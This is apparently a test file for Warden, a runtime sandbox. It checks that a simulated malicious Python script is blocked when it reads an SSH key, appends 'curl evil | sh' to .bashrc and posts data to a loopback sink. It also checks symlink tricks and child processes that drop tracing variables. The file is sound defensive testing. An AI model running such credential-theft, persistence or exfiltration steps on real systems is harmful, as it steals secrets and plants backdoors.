// The Python agent under the real `warden run`, with real python3 processes (skipped without a
// python3 of 3.8 or later): a malicious script is stopped or reported per the pypi-install
// preset and a loopback sink receives nothing; a benign script sees no block; a blocked call
// raises the runtime's own error naming Warden and the rule; a symbolic link and `..` are
// judged where they lead; a review without a terminal denies; children that drop PYTHONPATH or
// NODE_OPTIONS get them back (os.execve's and os.posix_spawn(p)'s own env too), and
// node -> sh -> python -> node is followed to the end.
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { denyPolicy, files, runWarden, tempDir, useHttpSink } from "./helpers.js";
import { eventsOf, PY } from "./python-helpers.js";

const held = useHttpSink();

const EVIL = `
import os, socket, subprocess, sys, urllib.request, urllib.error
home = os.path.expanduser("~")
port = int(os.environ["SINK_PORT"])
try:
    key = open(os.path.join(home, ".ssh", "id_rsa")).read(); print("READ KEY")
except PermissionError as e:
    print("evil: read", e.errno, e)
try:
    with open(os.path.join(home, ".bashrc"), "a") as f: f.write("curl evil | sh\\n")
    print("APPENDED")
except PermissionError as e:
    print("evil: append", e.errno)
try:
    s = socket.create_connection(("127.0.0.1", port)); s.sendall(b"POST /steal HTTP/1.0\\r\\n\\r\\nkey"); print("SENT")
except ConnectionRefusedError as e:
    print("evil: post", e.errno, e)
try:
    urllib.request.urlopen(f"http://127.0.0.1:{port}/steal", data=b"key"); print("SENT2")
except urllib.error.URLError as e:
    print("evil: urllib", type(e.reason).__name__)
subprocess.run(["sh", "-c", "echo from-sh"])
try:
    subprocess.run([sys.executable, "-c", "print('inline')"]); print("INLINE RAN")
except FileNotFoundError as e:
    print("evil: python -c", e.errno, e)
`;

const BENIGN = `
import json, os, shutil, sqlite3, tempfile, email.parser, http.client, subprocess, pathlib
d = tempfile.mkdtemp(dir=os.environ["WORK"])
p = os.path.join(d, "a.json")
with open(p, "w") as f: json.dump({"x": 1}, f)
shutil.copyfile(p, p + ".bak"); os.rename(p + ".bak", p + ".old"); os.listdir(d)
os.makedirs(os.path.join(d, "sub", "deeper")); pathlib.Path(d, "sub", "t.txt").write_text("t")
db = sqlite3.connect(os.path.join(d, "x.db")); db.execute("create table t (x)"); db.close()
subprocess.run(["uname", "-s"], stdout=subprocess.DEVNULL)
shutil.rmtree(d)
print("BENIGN OK", json.loads(open(os.path.join(os.environ["WORK"], "in.json")).read()))
`;

// The runs are independent (own folders; only the first uses the sink): run side by side.
describe.skipIf(PY === undefined).concurrent("warden run: the Python agent", () => {
  it("blocks or reports what a malicious script does (pypi-install); the sink receives nothing", async () => {
    const root = tempDir("warden-py-");
    const home = join(root, "home");
    mkdirSync(join(home, ".ssh"), { recursive: true });
    writeFileSync(join(home, ".ssh", "id_rsa"), "-----BEGIN FAKE KEY-----\n");
    writeFileSync(join(home, ".bashrc"), "# rc\n");
    files(root, { "evil.py": EVIL });
    const r = await runWarden(["run", "--json", "--preset", "pypi-install", "--", PY!, "evil.py"], {
      cwd: root,
      env: { ...process.env, HOME: home, SINK_PORT: String(held.current.port) },
    });
    expect(r.code, r.stderr).toBe(0);
    const { events, summary } = eventsOf(r.stdout);
    const blocked = (fn: string, target?: string) =>
      events.some(
        (e) => e.verdict === "block" && e.function === fn && (!target || e.target === target),
      );
    // The key was not read, the rc file not written, the posts refused before connecting:
    // each with the runtime's own error, naming Warden and the rule.
    expect(r.stderr).toMatch(
      /evil: read 13 \[Errno 13\] Permission denied \(blocked by Warden \(files\.deny\[0\] at preset:pypi-install:\d+\)\)/,
    );
    expect(blocked("py:open", join(home, ".ssh", "id_rsa"))).toBe(true);
    expect(r.stderr).toContain("evil: append 13");
    expect(blocked("py:open", join(home, ".bashrc"))).toBe(true);
    expect(readFileSync(join(home, ".bashrc"), "utf8")).toBe("# rc\n");
    expect(r.stderr).toMatch(
      /evil: post 111 .*Connection refused: 127\.0\.0\.1:\d+ \(blocked by Warden/,
    );
    expect(r.stderr).toContain("evil: urllib ConnectionRefusedError");
    expect(blocked("py:socket.connect", "127.0.0.1")).toBe(true);
    expect(blocked("py:urllib.Request")).toBe(true);
    expect(held.current.connections).toBe(0);
    expect(held.current.received).toBe("");
    // sh is allowed by the preset's commands, and the spawn is reported (python.warn).
    const sh = events.find((e) => e.function === "py:subprocess.Popen" && e.target.endsWith("/sh"));
    expect(sh?.verdict).toBe("warn");
    expect(sh?.rule_id).toMatch(/^python\.warn\[\d+\]$/);
    expect(r.stderr).toContain("from-sh");
    // `python -c` is denied by the preset: the spawn fails as a missing program would.
    expect(r.stderr).toMatch(
      /evil: python -c 2 \[Errno 2\] No such file or directory \(blocked by Warden/,
    );
    expect(r.stderr).not.toContain("inline");
    expect(r.stderr).not.toMatch(/READ KEY|APPENDED|SENT|INLINE RAN/);
    expect(summary.lost).toBe(0);
  }, 60_000);

  it("shows no block for a benign script; judges symlinks and .. where they lead; review", async () => {
    const root = tempDir("warden-py-");
    const secret = join(root, "secret");
    mkdirSync(secret);
    writeFileSync(join(secret, "key.txt"), "k");
    symlinkSync(join(secret, "key.txt"), join(root, "innocent.txt"));
    files(root, {
      "in.json": '{"ok": true}',
      "benign.py": BENIGN,
      "policy.yaml": denyPolicy([`${secret}/**`], "python:\n  review: [os.system]"),
      "sneaky.py": `
import os
for p in ["innocent.txt", "work/../secret/key.txt"]:
    try:
        open(p).read(); print("READ", p)
    except PermissionError as e:
        print("DENIED", p, e.errno)
try:
    os.system("echo ran"); print("SYSTEM RAN")
except OSError as e:
    print("SYSTEM DENIED", e.errno, e)
`,
    });
    mkdirSync(join(root, "work"));
    const env = { ...process.env, WORK: root };
    // The same test judges a review: without a terminal it is denied and the summary says so.
    // A sitecustomize of the user's own on PYTHONPATH still runs (after Warden's).
    mkdirSync(join(root, "usersite"));
    writeFileSync(join(root, "usersite", "sitecustomize.py"), 'print("USER SITECUSTOMIZE")\n');
    const [benign, sneaky] = await Promise.all([
      runWarden(["run", "--json", "--preset", "pypi-install", "--", PY!, "benign.py"], {
        cwd: root,
        env,
      }),
      runWarden(["run", "--policy", join(root, "policy.yaml"), "--", PY!, "sneaky.py"], {
        cwd: root,
        env: { ...process.env, PYTHONPATH: join(root, "usersite") },
      }),
    ]);
    expect(benign.code, benign.stderr).toBe(0);
    expect(benign.stderr).toContain("BENIGN OK {'ok': True}");
    const { events, summary } = eventsOf(benign.stdout);
    expect(events.filter((e) => e.verdict === "block")).toEqual([]);
    expect(events.some((e) => e.function === "py:shutil.rmtree")).toBe(true);
    expect(summary.lost).toBe(0);

    expect(sneaky.stdout).toContain("USER SITECUSTOMIZE");
    expect(sneaky.code, sneaky.stderr).toBe(0);
    expect(sneaky.stdout).toContain("DENIED innocent.txt 13");
    expect(sneaky.stdout).toContain("DENIED work/../secret/key.txt 13");
    expect(sneaky.stdout).not.toContain("READ");
    expect(sneaky.stdout).toMatch(
      /SYSTEM DENIED 2 .*blocked by Warden \(python\.review\[0\] at .*policy\.yaml:\d+\)/,
    );
    expect(sneaky.stdout).not.toContain("SYSTEM RAN");
    expect(sneaky.stderr).toContain("[review: no_tty]");
    expect(sneaky.stderr).toContain("no terminal: 1 review(s) were denied");
    // What this run cannot see names the Python agent's blind spots (with or without strace).
    const notSeen = sneaky.stderr.split("\n").find((l) => l.startsWith("not seen: "));
    expect(notSeen).toMatch(/C extensions/);
    expect(notSeen).toMatch(/ctypes/);
  }, 60_000);

  it("follows node -> sh -> python -> node, and children that drop PYTHONPATH or NODE_OPTIONS", async () => {
    const root = tempDir("warden-py-");
    const secret = join(root, "secret.txt");
    files(root, {
      "secret.txt": "s3cret",
      "policy.yaml": denyPolicy([secret]),
      "top.js": `
const { execSync } = require("child_process");
process.stdout.write(execSync(${JSON.stringify(`sh -c '"${PY}" mid.py'`)}, { encoding: "utf8" }));
`,
      "mid.py": `
import os, subprocess, sys
def read():
    try:
        open(${JSON.stringify(secret)}).read(); return "READ"
    except PermissionError as e:
        return f"EACCES {e.errno}"
print("MID", read(), flush=True)
# Children whose environment dropped the trace: a Python one and a Node one.
r = subprocess.run([sys.executable, "leaf.py"], env={"PATH": os.environ["PATH"]}, capture_output=True, text=True)
print("PYLEAF", r.stdout.strip(), flush=True)
r = subprocess.run([${JSON.stringify(process.execPath)}, "leaf.js"], env={}, capture_output=True, text=True)
print("JSLEAF", r.stdout.strip(), flush=True)
# A forked child that execs a new image with an environment of its own (read before the hook).
pid = os.fork()
if pid == 0:
    os.execve(sys.executable, [sys.executable, "leaf.py", "EXECLEAF"], {"PATH": os.environ["PATH"]})
os.waitpid(pid, 0)
# os.posix_spawn(p) with an environment of their own (read before the audit hook runs).
for tag, spawn in (("POSIX_SPAWN", os.posix_spawn), ("POSIX_SPAWNP", os.posix_spawnp)):
    os.waitpid(spawn(sys.executable, [sys.executable, "leaf.py", tag], {}), 0)
`,
      "leaf.py": `
import sys
tag = sys.argv[1] + " " if len(sys.argv) > 1 else ""
try:
    open(${JSON.stringify(secret)}).read(); print(tag + "READ", flush=True)
except PermissionError as e:
    print(tag + "EACCES", e.errno, flush=True)
`,
      "leaf.js": `try { require("fs").readFileSync(${JSON.stringify(secret)}); console.log("READ"); } catch (e) { console.log(e.code); }`,
    });
    const r = await runWarden(
      ["run", "--json", "--policy", join(root, "policy.yaml"), "--", process.execPath, "top.js"],
      { cwd: root },
    );
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toContain("MID EACCES 13");
    expect(r.stderr).toContain("PYLEAF EACCES 13");
    expect(r.stderr).toContain("JSLEAF EACCES");
    expect(r.stderr).toContain("EXECLEAF EACCES 13");
    expect(r.stderr).toContain("POSIX_SPAWN EACCES 13");
    expect(r.stderr).toContain("POSIX_SPAWNP EACCES 13");
    const { events, summary } = eventsOf(r.stdout);
    const blockedBy = new Set(
      events.filter((e) => e.verdict === "block" && e.target === secret).map((e) => e.function),
    );
    expect([...blockedBy].sort()).toEqual(["js:fs.readFileSync", "py:open"]);
    const pids = new Set(events.filter((e) => e.target === secret).map((e) => e.pid));
    // mid.py, leaf.py, leaf.js, the forked child's new image, the two posix_spawn children
    expect(pids.size).toBe(6);
    const procs = summary.processes as {
      argv: string[];
      traced: boolean;
      env_restored?: boolean;
    }[];
    expect(procs.filter((p) => p.traced).length).toBeGreaterThanOrEqual(6);
    expect(summary.lost).toBe(0);
  }, 60_000);
});
